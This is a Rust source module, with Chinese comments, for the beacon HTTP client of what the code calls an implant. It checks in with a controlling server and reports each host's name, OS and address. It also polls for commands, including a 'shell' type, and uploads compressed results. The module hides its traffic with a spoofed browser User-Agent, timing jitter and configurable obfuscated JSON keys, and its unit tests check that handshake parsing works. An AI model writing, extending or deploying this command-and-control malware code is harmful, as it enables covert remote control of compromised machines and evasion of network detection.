// HTTP 客户端模块
//
// beacon 模式的全部出站请求：Connect / Reconnect / 轮询 / 上报。
// 固定 User-Agent 与 30 秒端到端超时；重试按线性退避（次数 × 基础延迟）。
// 可选的 zlib 压缩路径按 deflate 编码上报。

use flate2::write::ZlibEncoder;
use flate2::Compression;
use log::{debug, error, info, warn};
use serde_json::Value;
use std::io::Write;
use std::time::Duration;

use crate::backoff::LinearBackoff;
use crate::config::SharedState;
use crate::error::{AgentError, Result};
use crate::obfuscation::ObfuscationMap;
use crate::urlgen;

/// 端到端请求超时
const REQUEST_TIMEOUT: Duration = Duration::from_secs(30);
/// 固定 User-Agent
const USER_AGENT: &str = "Chrome/90.0.4430.93 Safari/537.36";
/// 重试次数
pub const RETRY_ATTEMPTS: u32 = 5;

/// Connect/Reconnect 的一次尝试结果
pub enum ConnectAttempt {
    /// 握手完成，配置已更新
    Success,
    /// 可恢复失败（传输错误 / 非 200 / 响应不完整），调用方应稍后重试
    Recoverable(String),
}

/// HTTP 客户端
pub struct HttpClient {
    client: reqwest::Client,
}

impl HttpClient {
    pub fn new() -> Result<Self> {
        let client = reqwest::Client::builder()
            .user_agent(USER_AGENT)
            .timeout(REQUEST_TIMEOUT)
            .build()?;
        Ok(Self { client })
    }

    /// GET 请求，返回 (状态码, 响应体)
    pub async fn get(&self, url: &str) -> Result<(u16, String)> {
        debug!("Performing GET request to: {}", url);
        let response = self
            .client
            .get(url)
            .header("Accept", "application/octet-stream")
            .send()
            .await?;
        let status = response.status().as_u16();
        let body = response.text().await?;
        debug!("GET request to {} returned code {}", url, status);
        Ok((status, body))
    }

    /// POST 请求，返回 (状态码, 响应体)
    ///
    /// `compress` 为真时对载荷做 zlib 压缩，
    /// 并改用 `application/octet-stream` + `Content-Encoding: deflate`。
    pub async fn post(&self, url: &str, payload: String, compress: bool) -> Result<(u16, String)> {
        debug!("Performing POST request to: {}", url);

        let mut request = self.client.post(url);
        if compress {
            match compress_payload(payload.as_bytes()) {
                Ok(compressed) => {
                    debug!(
                        "Payload compressed: {} -> {} bytes",
                        payload.len(),
                        compressed.len()
                    );
                    request = request
                        .header("Content-Type", "application/octet-stream")
                        .header("Content-Encoding", "deflate")
                        .body(compressed);
                }
                Err(e) => {
                    error!("Compression failed: {}. Sending uncompressed data.", e);
                    request = request
                        .header("Content-Type", "application/json")
                        .body(payload);
                }
            }
        } else {
            request = request
                .header("Content-Type", "application/json")
                .body(payload);
        }

        let response = request.send().await?;
        let status = response.status().as_u16();
        let body = response.text().await?;
        debug!("POST request to {} returned code {}", url, status);
        Ok((status, body))
    }

    /// 对同一 URL 做最多 `attempts` 次 GET 重试，线性退避
    ///
    /// 任意一次拿到 200 即成功；全部耗尽返回错误。
    pub async fn retry_get(&self, url: &str, attempts: u32, base_delay: Duration) -> Result<()> {
        warn!("Retrying request for URL: {} for up to {} attempts", url, attempts);
        let mut backoff = LinearBackoff::new(base_delay);

        for attempt in 1..=attempts {
            let delay = backoff.next_delay();
            if !delay.is_zero() {
                tokio::time::sleep(delay).await;
            }

            match self.get(url).await {
                Ok((200, _)) => {
                    info!("Retry attempt {} for {} succeeded", attempt, url);
                    return Ok(());
                }
                Ok((code, _)) => {
                    error!("Retry attempt {} for {} failed with response code {}", attempt, url, code);
                }
                Err(e) => {
                    error!("Retry attempt {} for {} failed: {}", attempt, url, e);
                }
            }
        }
        Err(AgentError::Connection(format!(
            "all {} retry attempts failed for URL: {}",
            attempts, url
        )))
    }

    /// 初次 Connect：上报主机信息，取回 (uuid, timer, jitter)
    pub async fn connect(
        &self,
        state: &SharedState,
        obfuscation: &ObfuscationMap,
    ) -> Result<ConnectAttempt> {
        let keys = &obfuscation.implant_info;
        if keys.name.is_empty() || keys.os.is_empty() || keys.address.is_empty() {
            return Err(AgentError::Protocol(
                "obfuscation config missing required implant_info keys".to_string(),
            ));
        }

        let base_url = state.url().await?;
        let connect_url = urlgen::connection_url(&base_url);
        debug!("Connection URL: {}", connect_url);

        let hostname = hostname::get()
            .map(|h| h.to_string_lossy().to_string())
            .unwrap_or_else(|_| "unknown_hostname".to_string());

        let mut payload = serde_json::Map::new();
        payload.insert(keys.name.clone(), Value::String(hostname));
        payload.insert(keys.os.clone(), Value::String(state.os_identifier().await));
        payload.insert(keys.address.clone(), Value::String(base_url));
        let body = serde_json::to_string(&Value::Object(payload))?;

        let (status, response_body) = match self.post(&connect_url, body, false).await {
            Ok(result) => result,
            Err(e) => return Ok(ConnectAttempt::Recoverable(format!("connect POST failed: {}", e))),
        };

        if status != 200 {
            return Ok(ConnectAttempt::Recoverable(format!(
                "server responded with {} during connect",
                status
            )));
        }

        match parse_connect_response(&response_body, obfuscation) {
            Ok((timer, id, jitter)) => {
                info!("Connect succeeded: timer={}, jitter={}", timer, jitter);
                state.set_connection(id, timer, jitter).await;
                Ok(ConnectAttempt::Success)
            }
            Err(e) => Ok(ConnectAttempt::Recoverable(format!(
                "malformed connect response: {}",
                e
            ))),
        }
    }

    /// Reconnect：带上已有的 id/timer/jitter 重新报到
    ///
    /// 响应体只记日志，不做解析（与服务端约定如此）。
    pub async fn reconnect(
        &self,
        state: &SharedState,
        obfuscation: &ObfuscationMap,
    ) -> Result<ConnectAttempt> {
        let keys = &obfuscation.implant_info;
        if keys.name.is_empty() || keys.uuid.is_empty() || keys.timer.is_empty() || keys.jitter.is_empty() {
            return Err(AgentError::Protocol(
                "obfuscation config missing required implant_info keys".to_string(),
            ));
        }

        let base_url = state.url().await?;
        let reconnect_url = urlgen::reconnect_url(&base_url);
        debug!("Reconnect URL: {}", reconnect_url);

        let hostname = hostname::get()
            .map(|h| h.to_string_lossy().to_string())
            .unwrap_or_else(|_| "unknown_hostname".to_string());
        let (timer, jitter) = state.timing().await;

        let mut payload = serde_json::Map::new();
        payload.insert(keys.name.clone(), Value::String(hostname));
        payload.insert(keys.os.clone(), Value::String(state.os_identifier().await));
        payload.insert(keys.address.clone(), Value::String(String::new()));
        payload.insert(keys.uuid.clone(), Value::String(state.id().await?));
        payload.insert(keys.timer.clone(), Value::from(timer));
        payload.insert(keys.jitter.clone(), Value::from(jitter));
        let body = serde_json::to_string(&Value::Object(payload))?;

        let (status, response_body) = match self.post(&reconnect_url, body, false).await {
            Ok(result) => result,
            Err(e) => {
                return Ok(ConnectAttempt::Recoverable(format!(
                    "reconnect POST failed: {}",
                    e
                )))
            }
        };

        if status != 200 {
            return Ok(ConnectAttempt::Recoverable(format!(
                "server responded with {} during reconnect",
                status
            )));
        }

        // 响应体仅记录，不推断任何字段
        debug!("ResponseBody from reconnect: {}", response_body);
        info!("Reconnect succeeded");
        Ok(ConnectAttempt::Success)
    }
}

/// 解析 Connect 响应：按混淆键取出 (timer, uuid, jitter)
fn parse_connect_response(body: &str, obfuscation: &ObfuscationMap) -> Result<(f64, String, f64)> {
    let keys = &obfuscation.implant_info;
    if keys.timer.is_empty() || keys.jitter.is_empty() || keys.uuid.is_empty() {
        return Err(AgentError::Protocol(
            "obfuscation config missing timer/jitter/uuid keys".to_string(),
        ));
    }

    let parsed: Value = serde_json::from_str(body)?;
    let timer = parsed
        .get(&keys.timer)
        .and_then(Value::as_f64)
        .ok_or_else(|| AgentError::Protocol(format!("missing '{}' in connect response", keys.timer)))?;
    let jitter = parsed
        .get(&keys.jitter)
        .and_then(Value::as_f64)
        .ok_or_else(|| AgentError::Protocol(format!("missing '{}' in connect response", keys.jitter)))?;
    let id = parsed
        .get(&keys.uuid)
        .and_then(Value::as_str)
        .ok_or_else(|| AgentError::Protocol(format!("missing '{}' in connect response", keys.uuid)))?;

    if id.is_empty() {
        return Err(AgentError::Protocol(
            "empty agent id in connect response".to_string(),
        ));
    }
    Ok((timer, id.to_string(), jitter))
}

/// zlib 压缩载荷
fn compress_payload(data: &[u8]) -> std::io::Result<Vec<u8>> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(data)?;
    encoder.finish()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::AgentConfig;
    use std::io::Read;

    fn plain_obfuscation() -> ObfuscationMap {
        serde_json::from_str(
            r#"{
                "implant_info": {
                    "name": "name", "os": "os", "address": "address",
                    "timer": "timer", "jitter": "jitter", "uuid": "uuid"
                },
                "commands": {
                    "obfuscation_name": "commands",
                    "command_uuid": "command_uuid",
                    "command": "command",
                    "data": "data",
                    "module": { "obfuscation_name": "module" },
                    "shell": { "obfuscation_name": "shell" }
                }
            }"#,
        )
        .unwrap()
    }

    #[test]
    fn test_compress_roundtrip() {
        let data = b"{\"reports\":[{\"command_uuid\":\"u1\",\"output\":\"ok\"}]}";
        let compressed = compress_payload(data).unwrap();
        assert_ne!(compressed.as_slice(), data.as_slice());

        let mut decoder = flate2::read::ZlibDecoder::new(compressed.as_slice());
        let mut decompressed = Vec::new();
        decoder.read_to_end(&mut decompressed).unwrap();
        assert_eq!(decompressed.as_slice(), data.as_slice());
    }

    #[test]
    fn test_parse_connect_response() {
        let obf = plain_obfuscation();
        let body = r#"{"uuid":"abc","timer":10.0,"jitter":2.0}"#;
        let (timer, id, jitter) = parse_connect_response(body, &obf).unwrap();
        assert_eq!(timer, 10.0);
        assert_eq!(id, "abc");
        assert_eq!(jitter, 2.0);
    }

    #[test]
    fn test_parse_connect_response_obfuscated_keys() {
        let obf: ObfuscationMap = serde_json::from_str(
            r#"{
                "implant_info": {
                    "name": "n", "os": "o", "address": "a",
                    "timer": "refresh_rate", "jitter": "refresh_skew", "uuid": "tracking_tag"
                }
            }"#,
        )
        .unwrap();
        let body = r#"{"tracking_tag":"abc","refresh_rate":7.5,"refresh_skew":1.5}"#;
        let (timer, id, jitter) = parse_connect_response(body, &obf).unwrap();
        assert_eq!((timer, jitter), (7.5, 1.5));
        assert_eq!(id, "abc");

        // 明文键名绝不作为回退
        let plain_body = r#"{"uuid":"abc","timer":7.5,"jitter":1.5}"#;
        assert!(parse_connect_response(plain_body, &obf).is_err());
    }

    #[test]
    fn test_parse_connect_response_empty_uuid() {
        let obf = plain_obfuscation();
        let body = r#"{"uuid":"","timer":10.0,"jitter":2.0}"#;
        assert!(parse_connect_response(body, &obf).is_err());
    }

    #[test]
    fn test_parse_connect_response_invalid_json() {
        let obf = plain_obfuscation();
        assert!(parse_connect_response("{oops", &obf).is_err());
    }

    #[tokio::test]
    async fn test_connect_unreachable_server_is_recoverable() {
        let mut config = AgentConfig::default();
        config.url = "http://127.0.0.1:1".to_string();
        let state = SharedState::new(config);
        let client = HttpClient::new().unwrap();

        let attempt = client.connect(&state, &plain_obfuscation()).await.unwrap();
        assert!(matches!(attempt, ConnectAttempt::Recoverable(_)));
    }

    #[tokio::test]
    async fn test_connect_missing_obfuscation_keys_is_fatal() {
        let state = SharedState::new(AgentConfig::default());
        let client = HttpClient::new().unwrap();

        let result = client.connect(&state, &ObfuscationMap::default()).await;
        assert!(matches!(result, Err(AgentError::Protocol(_))));
    }
}
